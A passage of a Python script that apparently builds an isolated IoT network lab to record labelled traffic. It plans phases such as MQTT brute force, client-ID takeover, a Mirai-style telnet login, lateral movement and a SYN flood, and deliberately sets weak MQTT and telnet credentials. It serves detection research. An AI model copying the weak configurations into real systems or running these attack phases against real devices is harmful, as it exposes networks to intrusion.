            params = {"target": tgt["name"], "path": tgt["web"]["path"], "user": tgt["web"]["user"]}
        elif name == "mqtt_bruteforce":
            targets = [broker["ip"]]
            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "topic": weak_plug["topic"],
                      "guesses": MQTT_BRUTE_GUESSES, "success_at": MQTT_BRUTE_GUESSES - rng.randint(0, 3)}
        elif name == "mqtt_wildcard_subscribe":
            targets = [broker["ip"]]
            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "topics": ["#", "$SYS/#"]}
        elif name == "mqtt_publish_flood":
            victim = rng.choice(persistent)
            targets = [broker["ip"]]
            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "messages": FLOOD_MESSAGES,
                      "spoofed_topic": victim["topic"]}
        elif name == "mqtt_clientid_takeover":
            victim = rng.choice(persistent)
            targets = [broker["ip"], victim["ip"]]
            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "victim": victim["name"],
                      "client_id": victim["client_id"], "topic": victim["topic"]}
        elif name == "coap_discovery_tamper":
            tgt = rng.choice(by_kind["soil"])
            targets = [tgt["ip"]]
            params = {"target": tgt["name"], "created_resource": rng.choice(["cfg", "calib", "fw"])}
        elif name == "http_firmware_download":
            model = rng.choice(["thermo", "cam"])
            targets = [broker["ip"]]
            params = {"path": firmware[model]["image"]}
        elif name == "mirai_telnet_login":
            tgt = rng.choice(cams)
            targets = [tgt["ip"], atk["ip"]]
            params = {"target": tgt["name"], "failed_tries": MIRAI_FAILED_TRIES}
        elif name == "lateral_movement":
            src = next((p for p in plan_phases if p["name"] == "mirai_telnet_login"), None)
            cam = next(h for h in cams if h["name"] == src["params"]["target"]) if src else rng.choice(cams)
            attacker = cam["ip"]
            others = [first["rtr"], rng.choice(by_kind["soil"]), rng.choice(by_kind["thermo"]), broker]
            targets = [subnet] + [h["ip"] for h in others]
            params = {"from": cam["name"], "telnet_target": others[0]["name"],
                      "coap_target": others[1]["name"], "http_target": others[2]["name"],
                      "http_path": others[2]["web"]["path"] + others[2]["web"]["status"],
                      "mqtt_topic": "%s/#" % mqtt["root"]}
        elif name == "syn_flood_hping3":
            targets = [broker["ip"]]
            params = {"port": BROKER_PORT, "count": SYN_FLOOD_COUNT, "interval_us": SYN_FLOOD_INTERVAL_US}
        elif name == "device_silent":
            victim = rng.choice(silent_candidates)
            attacker = ""
            targets = [victim["ip"]]
            params = {"victim": victim["name"]}
        plan_phases.append(dict(name=name, start_offset=round(t, 2), budget=PHASE_BUDGET[name],
                                attacker_ip=attacker, target_ips=targets, tool=PHASE_TOOL[name],
                                params=params))
        t += PHASE_BUDGET[name] + GAP_MIN + extra[i + 1]

    # planned benign events; one of each kind lands in the warm-up and in the tail
    tail_start = duration - tail
    ev = []
    hub, ops = first["hub"], first["ops"]
    ev += _events(rng, "telnet_admin_login", 0, duration - 8, *intervals["telnet_admin_login"],
                  [rng.uniform(2, 5), rng.uniform(tail_start + 1, tail_start + 4)], ops["ip"], first["rtr"]["ip"])
    for dev in by_kind["thermo"] + by_kind["cam"]:
        ev += _events(rng, "fw_update_check", 0, duration - 2, *intervals["fw_update_check"],
                      [rng.uniform(1, 8), rng.uniform(tail_start + 2, duration - 4)], dev["ip"], broker["ip"])
    for soil in by_kind["soil"]:
        ev += _events(rng, "coap_observe", 0, duration - 12, *intervals["coap_observe"],
                      [rng.uniform(3, 6), rng.uniform(tail_start + 1, tail_start + 4)], hub["ip"], soil["ip"])
    for plug in by_kind["plug"]:
        ev += _events(rng, "mqtt_command", 0, duration - 2, *intervals["mqtt_command"],
                      [rng.uniform(2, 10), rng.uniform(tail_start + 2, duration - 4)], hub["ip"], plug["ip"])
    ev.sort(key=lambda e: (e["t"], e["kind"], e["src"], e["dst"]))
    irregular = plan_irregular(seed, duration, plan_phases, by_kind)
    return dict(seed=seed, duration=duration, subnet=subnet, net_prefix=net, warmup=warm, tail=tail,
                hosts=hosts, phases=plan_phases, benign_events=ev, benign_irregular=irregular,
                mqtt=mqtt, firmware=firmware, operator=operator, polls=polls,
                benign_intervals=intervals)


# --------------------------------------------------------------------------
# Process registry
# --------------------------------------------------------------------------

def proc_starttime(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            data = f.read()
        return int(data.rsplit(")", 1)[1].split()[19])
    except (OSError, ValueError, IndexError):
        return None


class Runner:
    """Starts every process of the lab (in one of its namespaces, in its own
    process group) and remembers it by PID."""

    def __init__(self, registry_path, logdir, workdir):
        self.lock = threading.Lock()
        self.procs = []          # (Popen, name)
        self.entries = []        # dicts written to the registry
        self.closed = False
        self.registry_path = registry_path
        self.logdir = logdir
        self.workdir = workdir
        self.env = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                    "LANG": "C", "LC_ALL": "C", "HOME": workdir, "TERM": "dumb"}

    def spawn(self, ns, argv, name, stdin=subprocess.DEVNULL, stdout=None, log_output=True):
        with self.lock:
            if self.closed:
                raise LabInterrupted("runner closed")
            if stdout is None:
                stdout = open(os.path.join(self.logdir, name + ".log"), "ab") if log_output else subprocess.DEVNULL
            p = subprocess.Popen(["ip", "netns", "exec", ns] + list(argv), stdin=stdin, stdout=stdout,
                                 stderr=subprocess.STDOUT, cwd=self.workdir, env=self.env,
                                 start_new_session=True)
            if hasattr(stdout, "close") and stdout not in (subprocess.DEVNULL, subprocess.PIPE):
                stdout.close()
            entry = dict(pid=p.pid, pgid=p.pid, starttime=proc_starttime(p.pid), name=name,
                         ns=ns, argv0=argv[0], started=time.time())
            self.procs.append((p, name))
            self.entries.append(entry)
            with open(self.registry_path, "a") as f:
                f.write(json.dumps(entry) + "\n")
            return p

    def run(self, ns, argv, name, timeout, stdout=None, log_output=True, stdin=subprocess.DEVNULL):
        p = self.spawn(ns, argv, name, stdin=stdin, stdout=stdout, log_output=log_output)
        try:
            return p.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill(p)
            return None

    @staticmethod
    def kill(p, sig=signal.SIGTERM, grace=2.0):
        """Signal the process group led by p (only while p is not reaped, so the
        PID cannot have been reused), then SIGKILL it after grace seconds."""
        if p.poll() is not None:
            return
        try:
            os.killpg(p.pid, sig)
        except ProcessLookupError:
            return
        try:
            p.wait(timeout=grace)
        except subprocess.TimeoutExpired:
            try:
                os.killpg(p.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            try:
                p.wait(timeout=2)
            except subprocess.TimeoutExpired:
                pass

    def close(self):
        with self.lock:
            self.closed = True
            procs = list(self.procs)
        alive = [p for p, _ in procs if p.poll() is None]
        for p in alive:
            try:
                os.killpg(p.pid, signal.SIGTERM)
            except ProcessLookupError:
                pass
        deadline = time.time() + 3.0
        for p in alive:
            try:
                p.wait(timeout=max(0.05, deadline - time.time()))
            except subprocess.TimeoutExpired:
                pass
        for p in alive:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
                try:
                    p.wait(timeout=2)
                except subprocess.TimeoutExpired:
                    pass


# --------------------------------------------------------------------------
# Host setup helpers
# --------------------------------------------------------------------------

def sh(argv, check=True, timeout=30, input_bytes=None):
    r = subprocess.run(argv, input=input_bytes, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=timeout)
    if check and r.returncode != 0:
        raise LabError("%s failed (%d): %s" % (" ".join(argv[:6]), r.returncode,
                                               r.stderr.decode(errors="replace").strip()[:400]))
    return r


def ensure_packages():
    missing = sorted({pkg for path, pkg in TOOLS.items()
                      if not (os.path.exists(path) or shutil.which(os.path.basename(path)))})
    if not missing:
        return
    if "nginx-light" in missing:
        pol = sh(["apt-cache", "policy", "nginx-light"], check=False).stdout.decode()
        if "Candidate: (none)" in pol or "Candidate:" not in pol:
            missing[missing.index("nginx-light")] = "nginx"
    log("installing Debian packages: " + " ".join(missing))
    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
    policy = "/usr/sbin/policy-rc.d"
    created_policy = False
    if not os.path.exists(policy):
        # keep the packages' system services from starting: the lab runs its own instances
        with open(policy, "w") as f:
            f.write("#!/bin/sh\nexit 101\n")
        os.chmod(policy, 0o755)
        created_policy = True
    try:
        r = subprocess.run(["apt-get", "update"], env=env, stdout=subprocess.DEVNULL,
                           stderr=subprocess.PIPE, timeout=600)
        if r.returncode != 0:
            raise LabError("apt-get update failed: " + r.stderr.decode(errors="replace")[-400:])
        r = subprocess.run(["apt-get", "install", "-y", "-q", "--no-install-recommends"] + missing,
                           env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=1200)
        if r.returncode != 0:
            raise LabError("apt-get install failed: " + r.stderr.decode(errors="replace")[-400:])
    finally:
        if created_policy:
            os.unlink(policy)


BUSYBOX_CACHE = "/var/cache/spanwatch-lab"


def busybox_with_telnetd():
    """Debian's `busybox` has no telnetd applet; `busybox-static` has one but
    conflicts with `busybox`. So the lab fetches busybox-static with apt-get
    download and unpacks it (once) into a cache directory, without installing it."""
    for cand in ("/bin/busybox", os.path.join(BUSYBOX_CACHE, "bin", "busybox")):
        if os.path.exists(cand):
            r = sh([cand, "--list"], check=False)
            if b"telnetd" in r.stdout.split():
                return cand
    dl = tempfile.mkdtemp(prefix="swlab-busybox-")
    try:
        os.chmod(dl, 0o755)
        r = subprocess.run(["apt-get", "download", "busybox-static"], cwd=dl, stdout=subprocess.DEVNULL,
                           stderr=subprocess.PIPE, timeout=300)
        if r.returncode != 0:
            sh(["apt-get", "update"], timeout=600)
            r = subprocess.run(["apt-get", "download", "busybox-static"], cwd=dl, stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, timeout=300)
            if r.returncode != 0:
                raise LabError("apt-get download busybox-static failed: " + r.stderr.decode(errors="replace")[-300:])
        deb = [f for f in os.listdir(dl) if f.endswith(".deb")]
        if not deb:
            raise LabError("apt-get download busybox-static produced no .deb")
        sh(["dpkg-deb", "-x", os.path.join(dl, deb[0]), os.path.join(dl, "x")])
        os.makedirs(os.path.join(BUSYBOX_CACHE, "bin"), mode=0o755, exist_ok=True)
        dst = os.path.join(BUSYBOX_CACHE, "bin", "busybox")
        shutil.copy2(os.path.join(dl, "x", "bin", "busybox"), dst + ".new")
        os.chmod(dst + ".new", 0o755)
        os.replace(dst + ".new", dst)
        return dst
    finally:
        shutil.rmtree(dl, ignore_errors=True)


def write(path, data, mode=0o644):
    if isinstance(data, str):
        data = data.encode()
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, mode)


def ssha(password):
    salt = secrets.token_bytes(8)
    digest = hashlib.sha1(password.encode() + salt).digest()
    return "{SSHA}" + base64.b64encode(digest + salt).decode()


def crypt_hash(password, method):
    r = sh(["busybox", "mkpasswd", "-m", method], input_bytes=password.encode())
    return r.stdout.decode().strip()


def seeded_bytes(seed, label, n):
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(("%s:%s:%d" % (seed, label, counter)).encode()).digest()
        counter += 1
    return bytes(out[:n])


def mistype(password, rng):
    """The password with one typing slip: a dropped, doubled, swapped or wrong key."""
    i = rng.randrange(len(password))
    slip = rng.randrange(4)
    if slip == 0:
        out = password[:i] + password[i + 1:]
    elif slip == 1:
        out = password[:i] + password[i] + password[i:]
    elif slip == 2 and i + 1 < len(password):
        out = password[:i] + password[i + 1] + password[i] + password[i + 2:]
    else:
        out = password[:i] + rng.choice([c for c in string.ascii_letters if c != password[i]]) + password[i + 1:]
    return out if out != password else password + rng.choice(string.digits)


# --------------------------------------------------------------------------
# The lab
# --------------------------------------------------------------------------

class Lab:
    def __init__(self, plan, out, keep_going, keep_logs):
        self.plan = plan
        self.out = os.path.abspath(out)
        self.keep_going = keep_going
        self.keep_logs = keep_logs
        self.runid = "%dx%s" % (os.getpid(), secrets.token_hex(2))
        self.prefix = "%s-%s" % (PREFIX, self.runid)
        self.brns = self.prefix + "-br"
        self.namespaces = []      # created (or being created) namespaces, bridge last to delete
        self.tmp = None
        self.runner = None
        self.stop = threading.Event()
        self.threads = []
        self.hosts = {h["name"]: h for h in plan["hosts"]}
        self.by_kind = {}
        for h in plan["hosts"]:
            self.by_kind.setdefault(h["kind"], []).append(h)
        self.secrets = {}
        self.labels = []
        self.phase_results = []
        self.hosts_by_ip = {h["ip"]: h for h in plan["hosts"]}
        self.benign_log = []
        self.irregular_log = []
        self.benign_lock = threading.Lock()
        self.paused = {}          # device name -> Event set while silent
        self.silent_ack = {}      # device name -> Event set once it is silent
        self.plug_subs = {}       # plug name -> its command subscriber process
        self.ports = {}           # host name -> its port on the bridge
        self.t0 = None
        self.tcpdump = None
        self.tcpdump_stats = ""
        self.state_path = os.path.join(STATE_DIR, self.prefix + ".json")
        self.registry_path = None
        self.busybox_telnetd = "/bin/busybox"
        self.stop_reason = "incomplete"

    # ---- naming -----------------------------------------------------------
    def ns(self, name):
        return "%s-%s" % (self.prefix, name)

    def ip(self, name):
        return self.hosts[name]["ip"]

    # ---- state file for --cleanup-stale ---------------------------------
    def save_state(self):
        os.makedirs(STATE_DIR, exist_ok=True)
        state = dict(pid=os.getpid(), prefix=self.prefix, namespaces=self.namespaces, tmp=self.tmp,
                     registry=self.registry_path)
        write(self.state_path, json.dumps(state), 0o600)

    # ---- network -----------------------------------------------------------
    def build_network(self):
        self.namespaces.append(self.brns)
        self.save_state()
        sh(["ip", "netns", "add", self.brns])
        self._ns_sysctl(self.brns)
        sh(["ip", "-n", self.brns, "link", "set", "lo", "up"])
        sh(["ip", "-n", self.brns, "link", "add", "br0", "type", "bridge", "mcast_snooping", "0",
            "stp_state", "0"])
        sh(["ip", "-n", self.brns, "link", "set", "br0", "up"])
        for i, h in enumerate(self.plan["hosts"]):
            ns = self.ns(h["name"])
            self.namespaces.insert(0, ns)
            self.save_state()
            sh(["ip", "netns", "add", ns])
            self._ns_sysctl(ns)
            port = "p%d" % i
            self.ports[h["name"]] = port
            sh(["ip", "-n", self.brns, "link", "add", port, "type", "veth", "peer", "name", "eth0",
                "netns", ns])
            sh(["ip", "-n", self.brns, "link", "set", port, "master", "br0", "up"])
            sh(["ip", "-n", ns, "link", "set", "lo", "up"])
            sh(["ip", "-n", ns, "link", "set", "eth0", "address", h["mac"]])
            sh(["ip", "-n", ns, "addr", "add", h["ip"] + "/24", "dev", "eth0"])
            sh(["ip", "-n", ns, "link", "set", "eth0", "up"])

    @staticmethod
    def _ns_sysctl(ns):
        sh(["ip", "netns", "exec", ns, "sh", "-c",
            "for k in all default; do echo 1 > /proc/sys/net/ipv6/conf/$k/disable_ipv6; done"])

    # ---- configuration files ------------------------------------------------
    def prepare_files(self):
        plan = self.plan
        seed = plan["seed"]
        d = self.tmp
        for sub in ("logs", "work", "homes", "etc"):
            os.makedirs(os.path.join(d, sub), mode=0o755, exist_ok=True)
        weak_pw, cam_creds = draw_credential_choices(seed, self.by_kind)
        # MQTT accounts; ACLs on each device's own topics
        root = plan["mqtt"]["root"]
        mqtt_users = []
        acl = ["# spanwatch lab ACL", ""]
        for h in plan["hosts"]:
            k = h["kind"]
            if k not in MQTT_KINDS:
                continue
            pw = weak_pw.get(h["name"]) or secrets.token_urlsafe(12)
            self.secrets["mqtt:" + h["name"]] = pw
            mqtt_users.append("%s:%s" % (h["mqtt_user"], pw))
            acl.append("user %s" % h["mqtt_user"])
            if k == "hub":
                acl += ["topic read %s/#" % root, "topic read $SYS/#"]
                acl += ["topic write %s" % p["cmd_topic"] for p in self.by_kind["plug"]]
            elif h.get("weak"):
                acl += ["topic readwrite %s/#" % root, "topic readwrite $SYS/#"]
            else:
                acl.append("topic write %s" % h["topic"])
                if k == "plug":
                    acl.append("topic read %s" % h["cmd_topic"])
            acl.append("")
        mq = os.path.join(d, "mosquitto")
        os.makedirs(mq, mode=0o755)
        write(os.path.join(mq, "passwd"), "\n".join(mqtt_users) + "\n", 0o600)
        sh(["mosquitto_passwd", "-U", os.path.join(mq, "passwd")])
        write(os.path.join(mq, "acl"), "\n".join(acl) + "\n", 0o644)
        write(os.path.join(mq, "mosquitto.log"), "", 0o644)
        write(os.path.join(mq, "mosquitto.conf"), "\n".join([
            "per_listener_settings false",
            "allow_anonymous false",
            "persistence false",
            "password_file %s/passwd" % mq,
            "acl_file %s/acl" % mq,
            "listener %d %s" % (BROKER_PORT, self.ip("cloud")),
            "log_dest file %s/mosquitto.log" % mq,
            "log_type error", "log_type warning", "log_type notice", "log_type information",
            "connection_messages true", "max_keepalive 120", ""]))
        try:
            import pwd
            mosq = pwd.getpwnam("mosquitto")
            for f in ("passwd", "acl", "mosquitto.log"):
                os.chown(os.path.join(mq, f), mosq.pw_uid, mosq.pw_gid)
        except KeyError:
            pass
        # firmware server (cloud nginx): a manifest and an image per device model
        fw = os.path.join(d, "www-cloud")
        for kind, f in sorted(plan["firmware"].items()):
            image = seeded_bytes(seed, "fw-" + kind, f["size"])
            for path in (f["manifest"], f["image"]):
                os.makedirs(os.path.dirname(fw + path), mode=0o755, exist_ok=True)
            write(fw + f["image"], image)
            write(fw + f["manifest"], json.dumps(dict(
                model=f["model"], version=f["version"], size=len(image),
                sha256=hashlib.sha256(image).hexdigest(), url=f["image"])) + "\n")
        write(os.path.join(fw, "index.html"), "<html><body>update server</body></html>\n")
        self.nginx_conf("cloud", fw, None)
        # cameras: nginx UI behind basic auth + telnet account (a Mirai default pair)
        for h in self.by_kind["cam"]:
            web = h["web"]
            root_dir = os.path.join(d, "www-" + h["name"])
            admin = root_dir + web["path"]
            os.makedirs(admin, mode=0o755)
            write(os.path.join(root_dir, "index.html"),
                  "<html><head><title>%s</title></head><body><a href=%s>sign in</a></body></html>\n"
                  % (web["title"], web["path"]))
            write(os.path.join(admin, "index.html"), "<html><body>camera settings</body></html>\n")
            write(os.path.join(admin, web["status"]),
                  json.dumps(dict(name=h["wire_name"], uptime=1234, stream="rtsp",
                                  fw=plan["firmware"]["cam"]["version"])) + "\n")
            write(os.path.join(admin, web["snapshot"]),
                  b"\xff\xd8\xff\xe0" + seeded_bytes(seed, "snap-" + h["name"], 20000) + b"\xff\xd9")
            webpw = cam_creds[h["name"]]["web"]
            self.secrets["web:" + h["name"]] = webpw
            write(os.path.join(d, "etc", h["name"] + ".htpasswd"), "%s:%s\n" % (web["user"], ssha(webpw)))
            self.nginx_conf(h["name"], root_dir, os.path.join(d, "etc", h["name"] + ".htpasswd"))
            user, pw = cam_creds[h["name"]]["telnet"]
            self.secrets["telnet:" + h["name"]] = (user, pw)
            self.login_config(h, [(user, pw)])
        # thermostats: busybox httpd with basic auth
        for h in self.by_kind["thermo"]:
            web = h["web"]
            root_dir = os.path.join(d, "www-" + h["name"])
            os.makedirs(root_dir + web["path"], mode=0o755)
            write(os.path.join(root_dir, "index.html"), "<html><body>Thermostat %s</body></html>\n" % h["wire_name"])
            write(root_dir + web["path"] + web["status"],
                  json.dumps(dict(name=h["wire_name"], setpoint=h["setpoint"], mode="heat")) + "\n")
            pw = secrets.token_urlsafe(10)
            self.secrets["web:" + h["name"]] = pw
            write(os.path.join(d, "etc", h["name"] + "-httpd.conf"),
                  "%s:%s:%s\n" % (web["path"].rstrip("/"), web["user"], crypt_hash(pw, "md5")))
        # router: operator account (strong password)
        oppw = secrets.token_urlsafe(12)
        for h in self.by_kind["rtr"]:
            self.secrets["telnet:" + h["name"]] = (plan["operator"], oppw)
            self.login_config(h, [(plan["operator"], oppw)])
        # attacker: dictionaries and a web server with the "bot" binary
        atkd = os.path.join(d, "atk")
        os.makedirs(os.path.join(atkd, "www", "bins"), mode=0o755)
        write(os.path.join(atkd, "www", "bins", "mirai.x86"),
              b"#!/bin/false\n# harmless placeholder for the lab's Mirai phase\n" + seeded_bytes(seed, "bot", 4000))

    def nginx_conf(self, name, root, htpasswd):
        pre = os.path.join(self.tmp, "nginx-" + name)
        os.makedirs(os.path.join(pre, "tmp"), mode=0o755)
        h = self.hosts[name]
        auth = ""
        if htpasswd:
            auth = ('location %s { auth_basic "%s"; auth_basic_user_file %s; }'
                    % (h["web"]["path"], h["web"]["realm"], htpasswd))
        tokens = "on" if h.get("web", {}).get("server_tokens") else "off"
        tmpp = os.path.join(pre, "tmp")
        conf = """worker_processes 1;
pid %(pre)s/nginx.pid;
error_log %(pre)s/error.log warn;
events { worker_connections 128; }
http {
  access_log %(pre)s/access.log;
  client_body_temp_path %(t)s/body; proxy_temp_path %(t)s/proxy; fastcgi_temp_path %(t)s/fcgi;
  uwsgi_temp_path %(t)s/uwsgi; scgi_temp_path %(t)s/scgi;
  types { text/html html; application/json json; image/jpeg jpg; application/octet-stream bin img pkg; }
  default_type application/octet-stream;
  keepalive_timeout 5;
  server_tokens %(tokens)s;
  server {
    listen %(ip)s:80;
    server_name %(server_name)s;
    root %(root)s;
    %(auth)s
  }
}
""" % dict(pre=pre, t=tmpp, ip=h["ip"], server_name=h.get("wire_name", name), root=root, auth=auth,
           tokens=tokens)
        write(os.path.join(pre, "nginx.conf"), conf)

    def login_config(self, h, accounts):
        """An isolated passwd/shadow/group set for one telnet device (uid 0
        locked, lab accounts only), with the device's own banners. It becomes
        the upper layer of an overlay mounted on /etc in that device's private
        mount namespace only, so the host's account files are neither read nor
        touched by the device's login. A lab account named root (a Mirai
        default pair) is an unprivileged account: uid 0 is then called sysroot."""
        name = h["name"]
        etc = os.path.join(self.tmp, "etc", name)
        upper = os.path.join(etc, "upper")
        os.makedirs(upper, mode=0o755)
        os.makedirs(os.path.join(etc, "work"), mode=0o755)
        uid0 = "sysroot" if any(user == "root" for user, _ in accounts) else "root"
        passwd = ["%s:x:0:0:%s:/nonexistent:/usr/sbin/nologin" % (uid0, uid0),
                  "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin"]
        shadow = ["%s:!:19000:0:99999:7:::" % uid0, "nobody:*:19000:0:99999:7:::"]
        group = ["%s:x:0:" % uid0, "tty:x:5:", "utmp:x:43:", "nogroup:x:65534:"]
        base_uid = 47000 + 10 * len(os.listdir(os.path.join(self.tmp, "etc")))
        for i, (user, pw) in enumerate(accounts):
            uid = base_uid + i
            home = os.path.join(self.tmp, "homes", "%s-%s" % (name, user))
            os.makedirs(home, mode=0o755)
            os.chown(home, uid, uid)
            passwd.append("%s:x:%d:%d:%s lab account:%s:/bin/sh" % (user, uid, uid, name, home))
            shadow.append("%s:%s:19000:0:99999:7:::" % (user, crypt_hash(pw, "sha512")))
            group.append("%s:x:%d:" % (user, uid))
        write(os.path.join(upper, "passwd"), "\n".join(passwd) + "\n", 0o644)
        write(os.path.join(upper, "shadow"), "\n".join(shadow) + "\n", 0o600)
        write(os.path.join(upper, "group"), "\n".join(group) + "\n", 0o644)
        # banners: /etc/issue.net (busybox telnetd shows it before the login prompt), /etc/motd
        # (after login), and an empty, opaque update-motd.d instead of the host's scripts
        if "issue" in h:
            write(os.path.join(upper, "issue.net"), h["issue"], 0o644)
        write(os.path.join(upper, "motd"), h["motd"], 0o644)
        motd_d = os.path.join(upper, "update-motd.d")
        os.makedirs(motd_d, mode=0o755)
        os.setxattr(motd_d, "trusted.overlay.opaque", b"y")

    # ---- servers -----------------------------------------------------------
    def start_servers(self):
        r = self.runner
        d = self.tmp
        r.spawn(self.ns("cloud"), ["mosquitto", "-c", os.path.join(d, "mosquitto", "mosquitto.conf")], "mosquitto")
        for name in ["cloud"] + [h["name"] for h in self.by_kind["cam"]]:
            pre = os.path.join(d, "nginx-" + name)
            r.spawn(self.ns(name), ["nginx", "-p", pre, "-c", os.path.join(pre, "nginx.conf"),
                                    "-e", os.path.join(pre, "error.log"), "-g", "daemon off;"], "nginx-" + name)
        for h in self.by_kind["thermo"]:
            r.spawn(self.ns(h["name"]), ["busybox", "httpd", "-f", "-p", h["ip"] + ":80",
                                         "-h", os.path.join(d, "www-" + h["name"]),
                                         "-c", os.path.join(d, "etc", h["name"] + "-httpd.conf"),
                                         "-r", h["web"]["realm"], "-u", "nobody"], "httpd-" + h["name"])
        for h in self.by_kind["soil"]:
            r.spawn(self.ns(h["name"]), ["coap-server-notls", "-A", h["ip"], "-p", str(COAP_PORT), "-d", "8",
                                         "-v", "4"], "coap-server-" + h["name"])
        for h in self.by_kind["cam"] + self.by_kind["rtr"]:
            etc = os.path.join(d, "etc", h["name"])
            argv = ["unshare", "--mount", "--uts", "--propagation", "private",
                    sys.executable, os.path.abspath(__file__), "_isolate", "--hostname", h["hostname"],
                    "--etc-upper", os.path.join(etc, "upper"), "--etc-work", os.path.join(etc, "work")]
            if h["kind"] == "cam":
                # embedded-style device: busybox telnetd + the real /bin/login
                argv += ["--", self.busybox_telnetd, "telnetd", "-F", "-p", "23", "-b", h["ip"], "-l", "/bin/login"]
            else:
                argv += ["--inetd", "%s:23" % h["ip"], "--", "/usr/sbin/telnetd", "-h"]
            r.spawn(self.ns(h["name"]), argv, "telnetd-" + h["name"])
        if any(p["name"] == "mirai_telnet_login" for p in self.plan["phases"]):
            r.spawn(self.ns("atk"), ["busybox", "httpd", "-f", "-p", self.ip("atk") + ":80",
                                     "-h", os.path.join(d, "atk", "www"), "-u", "nobody"], "httpd-atk")
        # wait until every server listens
        checks = [("cloud", "tcp", BROKER_PORT), ("cloud", "tcp", 80)]
        checks += [(h["name"], "tcp", 80) for h in self.by_kind["cam"] + self.by_kind["thermo"]]
        checks += [(h["name"], "tcp", 23) for h in self.by_kind["cam"] + self.by_kind["rtr"]]
        checks += [(h["name"], "udp", COAP_PORT) for h in self.by_kind["soil"]]
        deadline = time.time() + 20
        for name, proto, port in checks:
            while True:
                flag = "-Hltn" if proto == "tcp" else "-Hlun"
                out = sh(["ip", "netns", "exec", self.ns(name), "ss", flag, "sport = :%d" % port],
                         check=False).stdout
                if out.strip():
                    break
                dead = [n for p, n in self.runner.procs if p.poll() is not None]
                if dead:
                    raise LabError("server(s) exited early: %s (see logs)" % ",".join(dead))
                if time.time() > deadline:
                    raise LabError("%s: nothing listens on %s/%d" % (name, proto, port))
                time.sleep(0.1)

    def start_capture(self):
        pcap = os.path.join(self.tmp, "capture.pcap")
        errlog = os.path.join(self.tmp, "logs", "tcpdump.log")
        self.tcpdump = self.runner.spawn(self.brns, ["tcpdump", "-i", "br0", "-n", "-s", "0", "-U",
                                                     "-Z", "root", "-w", pcap],
                                         "tcpdump", stdout=open(errlog, "ab"))
        deadline = time.time() + 10
        while time.time() < deadline:
            with open(errlog, "rb") as f:
                if b"listening on" in f.read():
                    return
            if self.tcpdump.poll() is not None:
                break
            time.sleep(0.05)
        raise LabError("tcpdump did not start")

    # ---- benign behaviour ------------------------------------------------
    def at(self, offset):
        return self.t0 + offset

    def wait_until(self, when, gate=None):
        """Sleep until wall time `when` (or until device `gate` is told to go
        silent); False if the lab is stopping."""
        while True:
            left = when - time.time()
            if left <= 0 or (gate is not None and self.silent_gate(gate)):
                return not self.stop.is_set()
            if self.stop.wait(min(left, 0.5 if gate is None else 0.1)):
                return False

    def go_silent(self, name, proc=None):
        """Called by a device thread when its silence gate is set: drop the
        connection, acknowledge, and wait for the gate to open again."""
        if proc is not None:
            self.runner.kill(proc, signal.SIGKILL)
        self.silent_ack[name].set()
        while self.silent_gate(name) and not self.stop.is_set():
            self.stop.wait(0.05)

    def thread(self, fn, *args):
        def wrapper():
            try:
                fn(*args)
            except LabInterrupted:
                pass
            except Exception as e:  # a device error must not kill the run silently
                if not self.stop.is_set():
                    log("device thread %s failed: %r" % (fn.__name__, e))
        t = threading.Thread(target=wrapper, daemon=True)
        t.start()
        self.threads.append(t)

    def benign_event(self, start, end, kind, src, dst, tool, notes):
        with self.benign_lock:
            self.benign_log.append((start, end, kind, src, dst, tool, notes))

    def mqtt_args(self, name):
        return ["-h", self.ip("cloud"), "-p", str(BROKER_PORT), "-u", self.hosts[name]["mqtt_user"],
                "-P", self.secrets["mqtt:" + name]]

    def silent_gate(self, name):
        ev = self.paused.get(name)
        return ev is not None and ev.is_set()

    def persistent_publisher(self, h, make_value):
        """One long-lived `mosquitto_pub -l` connection; a line per reading."""
        rng = random.Random("%s:%s" % (self.plan["seed"], h["name"]))
        name = h["name"]
        ns = self.ns(name)
        proc = None
        next_t = time.time() + rng.uniform(0.2, 2.0)
        while not self.stop.is_set():
            if self.silent_gate(name):
                self.go_silent(name, proc)
                proc = None
                next_t = time.time() + rng.uniform(0.1, 0.5)
                continue
            if proc is None or proc.poll() is not None:
                argv = ["mosquitto_pub"] + self.mqtt_args(name) + [
                    "-i", h["client_id"], "-t", h["topic"], "-q", str(h["qos"]), "-l", "-k", str(h["keepalive"])]
                if h["qos"] > 0:
                    argv.append("-c")
                proc = self.runner.spawn(ns, argv, "pub-" + name, stdin=subprocess.PIPE)
            if not self.wait_until(next_t, gate=name):
                break
            if self.silent_gate(name):
                continue
            try:
                proc.stdin.write((make_value(rng) + "\n").encode())
                proc.stdin.flush()
            except (BrokenPipeError, OSError, ValueError):
                proc = None
            next_t = time.time() + h["period"] * rng.uniform(0.85, 1.15)

    def oneshot_publisher(self, h, make_value):
        rng = random.Random("%s:%s" % (self.plan["seed"], h["name"]))
        name = h["name"]
        next_t = time.time() + rng.uniform(0.5, 3.0)
        while self.wait_until(next_t, gate=name):
            if self.silent_gate(name):
                self.go_silent(name)
                next_t = time.time() + rng.uniform(0.1, 0.5)
                continue
            cid = h["client_id"]
            if h["client_id_suffix"]:
                cid = "%s-%04x" % (cid, rng.randrange(65536))
            self.runner.run(self.ns(name), ["mosquitto_pub"] + self.mqtt_args(name) + [
                "-i", cid, "-t", h["topic"], "-q", str(h["qos"]), "-k", str(h["keepalive"]),
                "-m", make_value(rng)], "pub-" + name, timeout=8)
            next_t = time.time() + h["period"] * rng.uniform(0.85, 1.15)

    def plug_commands(self, h):
        self.plug_subs[h["name"]] = self.runner.spawn(self.ns(h["name"]), ["mosquitto_sub"] + self.mqtt_args(h["name"]) + [
